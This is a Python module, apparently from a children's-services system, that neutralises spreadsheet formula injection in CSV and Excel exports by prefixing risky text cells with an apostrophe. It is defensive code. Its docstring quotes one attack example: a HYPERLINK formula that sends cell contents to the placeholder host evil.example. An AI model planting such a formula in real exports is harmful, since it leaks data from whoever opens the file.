"""Cells for every CSV and Excel file Homeward writes (the dashboard's downloads, the audit trail CSV, the
SSDA903 and Annex A returns), made safe against formula injection.

A spreadsheet runs a cell that begins with =, +, - or @ (and, in some, a tab or carriage return before them) as a
formula: a place, a child ID or a username someone typed as `=HYPERLINK("http://evil.example/?"&A1,"Open")`
would run on the machine of whoever opens the download. Such a text cell is written with an apostrophe in
front, so the spreadsheet shows it as the text it is. Numbers and dates are left alone: a negative number is a
number, never a formula.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """`value`, with an apostrophe in front when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def safe_text(value: object) -> str:
    """`value` as the text of a CSV cell (None is empty), neutralised like `safe_cell`."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
